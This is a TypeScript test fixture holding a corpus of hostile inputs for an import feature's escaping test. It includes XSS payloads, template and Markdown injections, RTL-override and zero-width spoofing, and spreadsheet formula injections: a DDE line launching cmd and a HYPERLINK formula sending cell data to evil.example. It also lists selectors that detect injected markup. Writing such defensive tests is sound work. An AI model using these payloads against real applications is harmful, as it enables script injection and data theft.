/**
 * Hostile text for the hostile-content e2e test: markup, event handlers, script URLs, template
 * and Markdown tricks, bidirectional and invisible characters, spreadsheet formulas and very long
 * values. Each payload is imported as data; the app must show it as the text it is, everywhere.
 * `fields` says where a payload fits the import's limits (tags: ≤ 50 characters, no , ; |;
 * sources and campaigns ≤ 100; names and companies ≤ 200).
 */
export type CorpusField = 'name' | 'company' | 'tags' | 'source' | 'campaign';

export interface Payload {
  id: string;
  text: string;
  fields: readonly CorpusField[];
}

const ALL: readonly CorpusField[] = ['name', 'company', 'tags', 'source', 'campaign'];
const NO_TAG: readonly CorpusField[] = ['name', 'company', 'source', 'campaign'];
const TEXT: readonly CorpusField[] = ['name', 'company'];

export const XSS_CORPUS: readonly Payload[] = [
  { id: 'script-tag', text: "<script>alert('xss-script')</script>", fields: ALL },
  { id: 'img-onerror', text: '<img src=x onerror=alert(1)>', fields: ALL },
  { id: 'svg-onload', text: '<svg onload=alert(1)>', fields: ALL },
  { id: 'svg-script', text: '<svg><script>alert(2)</script></svg>', fields: ALL },
  { id: 'iframe-breakout', text: '"><iframe src=javascript:alert(3)>', fields: ALL },
  { id: 'attribute-breakout', text: "' onmouseover='alert(4)' x='", fields: ALL },
  { id: 'event-div', text: '<div onclick="alert(5)" style="position:fixed;inset:0">win</div>', fields: NO_TAG },
  { id: 'details-ontoggle', text: '<details open ontoggle=alert(6)>', fields: ALL },
  { id: 'javascript-url', text: 'javascript:alert(7)', fields: ALL },
  { id: 'data-url', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==', fields: NO_TAG },
  { id: 'anchor-javascript', text: '<a href="javascript:alert(9)">open</a>', fields: ALL },
  { id: 'angular-template', text: "{{constructor.constructor('alert(10)')()}}", fields: ALL },
  { id: 'template-literal', text: '${alert(11)}', fields: ALL },
  { id: 'markdown-link', text: '[click](javascript:alert(12))', fields: ALL },
  { id: 'markdown-image', text: '![x](x" onerror="alert(13))', fields: ALL },
  { id: 'style-tag', text: '<style>*{display:none!important}</style>', fields: ALL },
  { id: 'math-mglyph', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>', fields: NO_TAG },
  { id: 'html-entities', text: '&lt;img src=x onerror=alert(15)&gt;', fields: NO_TAG },
  { id: 'rtl-override', text: 'Invoice \u202Efdp.exe', fields: ALL },
  { id: 'zero-width', text: 'ad\u200Bmin\u200D\u2060user', fields: ALL },
  { id: 'formula-hyperlink', text: '=HYPERLINK("http://evil.example/?d="&A1,"Open")', fields: TEXT },
  { id: 'formula-dde', text: "+cmd|' /C calc'!A0", fields: ['name', 'company'] },
  { id: 'formula-at', text: '@SUM(1+1)*cmd', fields: ALL },
  { id: 'formula-minus', text: '-2+3+cmd', fields: ALL },
  { id: 'formula-second-line', text: 'Acme\n=1+1', fields: ['company'] },
  { id: 'long-name', text: `Long${'<b>x</b>'.repeat(24)}`.slice(0, 200), fields: TEXT },
];

/** A name of 10,000 characters: the longest cell the import accepts. Names are capped at 200, so this row is rejected, and its report must show it as text. */
export const TEN_THOUSAND = `<img src=x onerror=alert(16)>${'A'.repeat(10_000 - 29)}`;

/** Elements that exist only if a payload was parsed as markup. */
export const INJECTED_SELECTORS = [
  'script:not([src])',
  'img[src="x"]',
  'svg[onload]',
  'iframe',
  'object',
  'embed',
  'details[ontoggle]',
  '[onclick]',
  '[onmouseover]',
  '[onerror]',
  '[onload]',
  '[ontoggle]',
  'math',
  'mglyph',
  'a[href^="javascript:"]',
  'a[href^="data:"]',
];
